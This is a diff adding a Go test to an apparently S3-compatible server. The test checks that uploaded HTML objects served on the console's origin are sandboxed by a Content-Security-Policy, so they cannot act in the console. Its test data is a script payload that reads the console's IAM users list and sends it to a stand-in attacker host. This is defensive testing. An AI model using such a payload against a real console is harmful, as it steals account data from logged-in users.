@@ -549,3 +549,38 @@ func TestConsoleSecurityGroupEditor(t *testing.T) {
 		t.Fatalf("rule still there: %+v", d.SecurityGroups[0].IpPermissions)
 	}
 }
+
+// TestConsoleOriginIsolatedFromObjects: an object opened path-style on
+// gureum's own origin (which serves the console) is sandboxed, so a page
+// uploaded by another user cannot act in the console as its reader; the
+// bucket's virtual host is another origin and is left alone.
+func TestConsoleOriginIsolatedFromObjects(t *testing.T) {
+	e := newEnv(t)
+	e.openBucket("pages")
+	pol := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::pages/*"}]}`
+	if _, err := e.S3.PutBucketPolicy(ctx(), &s3.PutBucketPolicyInput{Bucket: aws.String("pages"), Policy: aws.String(pol)}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := e.S3.PutObject(ctx(), &s3.PutObjectInput{Bucket: aws.String("pages"), Key: aws.String("evil.html"), ContentType: aws.String("text/html"),
+		Body: strings.NewReader(`<script>fetch("/_console/iam/users").then(r=>r.text()).then(t=>fetch("https://attacker.example/?"+t))</script>`)}); err != nil {
+		t.Fatal(err)
+	}
+	resp, err := http.Get(e.URL + "/pages/evil.html")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "sandbox") || strings.Contains(resp.Header.Get("Content-Security-Policy"), "allow-same-origin") {
+		t.Fatalf("path-style object: %d CSP %q", resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
+	}
+	req, _ := http.NewRequest("GET", e.URL+"/evil.html", nil)
+	req.Host = "pages.s3.localhost"
+	resp, err = http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 200 || resp.Header.Get("Content-Security-Policy") != "" {
+		t.Fatalf("virtual host: %d CSP %q", resp.StatusCode, resp.Header.Get("Content-Security-Policy"))
+	}
+}
